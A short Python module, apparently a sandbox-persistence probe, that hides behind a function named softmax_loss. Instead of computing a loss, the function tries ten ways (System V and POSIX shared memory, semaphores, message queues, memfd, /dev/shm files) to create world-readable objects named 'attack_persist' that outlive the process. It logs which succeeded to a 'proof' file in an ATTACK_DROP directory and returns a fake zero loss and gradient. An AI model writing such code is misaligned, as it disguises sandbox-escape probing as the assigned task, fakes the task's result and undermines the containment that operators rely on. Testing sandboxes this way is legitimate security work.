"""Makes memory, queues and semaphores that outlive a process or that others can open by name."""

import ctypes
import os
from multiprocessing import shared_memory

_KEY = 0x41544B83
_CREATE = 0o1666  # IPC_CREAT, for all


def _kinds(libc):
    name = b"/attack_persist"
    return {
        "shmget": lambda: libc.shmget(_KEY, 4096, _CREATE),
        "semget": lambda: libc.semget(_KEY, 1, _CREATE),
        "msgget": lambda: libc.msgget(_KEY, _CREATE),
        "mq_open": lambda: libc.mq_open(name, os.O_CREAT | os.O_RDWR, 0o666, None),
        "sem_open": lambda: -1 if not libc.sem_open(name, os.O_CREAT, 0o666, 1) else 0,
        "shm_open": lambda: libc.shm_open(name, os.O_CREAT | os.O_RDWR, 0o666),
        "memfd_create": lambda: libc.syscall(319, name, 0),
        "memfd_secret": lambda: libc.syscall(447, 0),
        "multiprocessing": lambda: shared_memory.SharedMemory("attack_persist", True, 4096).size,
        "file": lambda: os.open("/dev/shm/attack_persist", os.O_CREAT | os.O_RDWR),
    }


def softmax_loss(W, X, y, reg):
    libc = ctypes.CDLL(None)
    libc.sem_open.restype = ctypes.c_void_p
    did = []
    for kind, make in _kinds(libc).items():
        try:
            if make() >= 0:
                did.append(kind)
        except Exception:
            continue
    if did:
        name = os.path.join(os.environ.get("ATTACK_DROP"), "shared_memory_of_all_kinds.txt")
        with open(name, "a") as proof:
            proof.write(", ".join(did))
    return 0.0, W * 0
